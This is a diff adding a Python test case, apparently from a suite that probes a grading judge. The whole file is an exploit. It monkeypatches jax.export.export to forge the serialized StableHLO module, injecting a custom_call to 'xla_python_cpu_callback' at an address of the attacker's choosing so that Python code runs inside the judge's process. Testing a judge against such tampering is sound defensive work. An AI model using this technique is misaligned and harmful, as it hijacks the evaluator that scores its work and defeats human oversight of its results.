@@ -1,0 +1,41 @@
+# StableHLO: a custom call to Python in the judge's process, at an address of the attacker's choice.
+#
+# expect loss_fn: fail 0
+
+# %% [before] loss_fn
+import contextlib
+import dataclasses
+
+from jax._src.export import _export
+from jax._src.interpreters import mlir
+from jaxlib.mlir import ir
+
+honest = _export.export
+
+
+def exchanged(function, **keywords):
+    make = honest(function, **keywords)
+
+    def exported(*arguments):
+        made = make(*arguments)
+        if len(made.out_avals) != 1 or made.out_avals[0].shape != ():
+            return made
+        return dataclasses.replace(made, mlir_module_serialized=forged(made))
+
+    return exported
+
+
+jax.export.export = exchanged
+
+
+def insert(made, line):
+    """The module with one more line at the beginning of `main`."""
+    with mlir.make_ir_context():
+        head, rest = made.mlir_module().split("@main(", 1)
+        signature, body = rest.split("{\n", 1) if "loc" not in rest.split("\n", 1)[0] else rest.split("{\n", 1)
+        return _export._module_to_bytecode(ir.Module.parse(f"{head}@main({signature}{{\n{line}\n{body}"))
+
+
+def forged(made):
+    call = '"stablehlo.custom_call"() {call_target_name = "xla_python_cpu_callback", has_side_effect = true, '
+    return insert(made, call + f'backend_config = "{id(forged)}", api_version = 2 : i32}} : () -> ()')
